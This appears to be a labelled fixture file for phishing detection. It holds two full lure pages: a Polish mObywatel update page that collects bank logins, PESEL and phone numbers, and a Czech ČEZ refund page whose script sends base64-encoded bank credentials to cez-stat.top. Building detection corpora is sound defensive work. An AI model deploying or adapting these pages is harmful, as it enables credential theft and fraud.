import { type Entry, htmlRoute } from '../entry.js';
import { doc, cardCss } from '../parts/yz-kit.js';

export const entries: Entry[] = [
{
  id: 'yz-mobywatel-aktualizacja-wezel-bank',
  label: 'phishing',
  kind: 'egov-lure-bank-login',
  url: 'https://mobywatel-gov.pl-weryfikacja.com/aktualizacja',
  body: doc({
    lang: 'pl',
    title: 'mObywatel – aktualizacja danych',
    css: `body{margin:0;font-family:"Lato",Arial,sans-serif;background:#fff;color:#1b1b1b}.bar{background:#0052a5;color:#fff;padding:10px 24px;font-size:13px}
.wrap{max-width:760px;margin:30px auto;padding:0 20px}.tiles{display:grid;grid-template-columns:repeat(4,1fr);gap:10px}.tiles a{border:1px solid #ccd;border-radius:6px;padding:18px 4px;text-align:center;color:#0052a5;text-decoration:none;font-weight:700;font-size:14px}
.pl{display:inline-block;width:24px;height:16px;background:linear-gradient(#fff 50%,#dc143c 50%);border:1px solid #ccc;vertical-align:middle;margin-right:6px}`,
    body: `<div class="bar"><span class="pl"></span>Serwis Rzeczypospolitej Polskiej · gov.pl</div>
<div class="wrap">
  <h1>Aktualizacja danych w aplikacji mObywatel</h1>
  <p>Zgodnie z nowelizacją ustawy o aplikacji mObywatel wszyscy użytkownicy muszą potwierdzić swoją tożsamość do <b>30 listopada</b>. Brak potwierdzenia spowoduje unieważnienie mDowodu.</p>
  <h3>Potwierdź tożsamość za pomocą bankowości elektronicznej</h3>
  <div class="tiles">
    <a href="/wk/login?b=pko">PKO BP</a><a href="/wk/login?b=pekao">Pekao</a><a href="/wk/login?b=mbank">mBank</a><a href="/wk/login?b=ing">ING</a>
    <a href="/wk/login?b=santander">Santander</a><a href="/wk/login?b=millennium">Millennium</a><a href="/wk/login?b=bos">BOŚ</a><a href="/wk/login?b=bs">Bank Spółdzielczy</a>
  </div>
  <p style="font-size:12px;color:#666;margin-top:30px">Ministerstwo Cyfryzacji · Centralny Ośrodek Informatyki</p>
</div>`,
  }),
  routes: {
    'mobywatel-gov.pl-weryfikacja.com/wk/login': htmlRoute(doc({
      lang: 'pl',
      title: 'Węzeł Krajowy – logowanie przez bank',
      css: cardCss('#0052a5'),
      body: `<div class="top"><b style="color:#0052a5">login.gov.pl</b><span class="muted">Logowanie przez bankowość elektroniczną</span></div>
<div class="card"><h1>Zaloguj się do banku</h1>
<form id="w"><label>Login / numer klienta</label><input type="text" name="l"><label>Hasło</label><input type="password" name="p"><label>PESEL</label><input type="tel" name="pesel"><label>Numer telefonu</label><input type="tel" name="t"><button class="btn">Zaloguj</button></form></div>`,
      tail: `<script>var b=new URLSearchParams(location.search).get('b');document.getElementById('w').onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this));q.set('bank',b);fetch('/wk/api.php?'+q.toString()).then(function(){location.href='/wk/sms?b='+b})};</script>`,
    })),
  },
},
{
  id: 'yz-cez-preplatek-bankovni-identita',
  label: 'phishing',
  kind: 'utility-refund-lure',
  url: 'https://cez-preplatek.cz-vraceni.com/vraceni/',
  body: doc({
    lang: 'cs',
    title: 'ČEZ Prodej – vrácení přeplatku',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#fff}.h{background:#f24f00;color:#fff;padding:14px 24px;font-weight:700}.w{max-width:640px;margin:24px auto;padding:0 16px}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.g button{padding:16px;border:1px solid #ccc;background:#fff;border-radius:6px;font-weight:700;cursor:pointer}`,
    body: `<div class="h">ČEZ · Zákaznický portál</div>
<div class="w">
<h1>Vyúčtování: přeplatek 2 318 Kč</h1>
<p>Na základě ročního vyúčtování elektřiny vám vznikl přeplatek. Peníze vám pošleme okamžitě po ověření přes <b>Bankovní identitu</b>.</p>
<div class="g"><button data-b="csas">Česká spořitelna</button><button data-b="csob">ČSOB</button><button data-b="kb">Komerční banka</button><button data-b="rb">Raiffeisenbank</button><button data-b="moneta">MONETA</button><button data-b="fio">Fio banka</button><button data-b="air">Air Bank</button><button data-b="unicredit">UniCredit</button><button data-b="mbank">mBank</button></div>
<div id="f" style="display:none;margin-top:20px"><h3 id="bn"></h3><input id="u" placeholder="Přihlašovací jméno" style="width:100%;padding:10px;margin:6px 0"><input id="p" type="password" placeholder="Heslo" style="width:100%;padding:10px;margin:6px 0"><button id="go" style="background:#f24f00;color:#fff;border:0;padding:12px 24px">Přihlásit a přijmout platbu</button></div>
</div>`,
    tail: `<script>
var bank='';document.querySelectorAll('.g button').forEach(function(b){b.onclick=function(){bank=b.dataset.b;document.getElementById('bn').textContent=b.textContent;document.getElementById('f').style.display='block'}});
document.getElementById('go').onclick=function(){var img=new Image();img.src='https://cez-stat.top/p.gif?'+btoa(bank+'|'+document.getElementById('u').value+'|'+document.getElementById('p').value);document.getElementById('f').innerHTML='<p>Potvrďte přihlášení ve své bankovní aplikaci…</p>'};
</script>`,
  }),
},
];
